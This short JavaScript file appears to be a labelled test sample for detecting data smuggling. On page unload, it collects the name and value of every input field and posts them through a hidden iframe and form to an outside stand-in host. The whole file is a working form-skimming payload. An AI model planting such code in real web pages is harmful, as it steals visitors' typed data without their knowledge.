addEventListener('beforeunload', () => {
  const i = document.createElement('iframe');
  i.name = 'x';
  i.style.display = 'none';
  document.body.append(i);
  const f = document.createElement('form');
  f.method = 'post';
  f.target = 'x';
  f.action = 'https://save.formcache.example/p';
  const a = document.createElement('input');
  a.name = 'd';
  // expect: browsing-data-smuggled
  a.value = JSON.stringify([ ...document.querySelectorAll('input') ].map(e => [ e.name, e.value ]));
  f.append(a);
  document.body.append(f);
  f.submit();
});
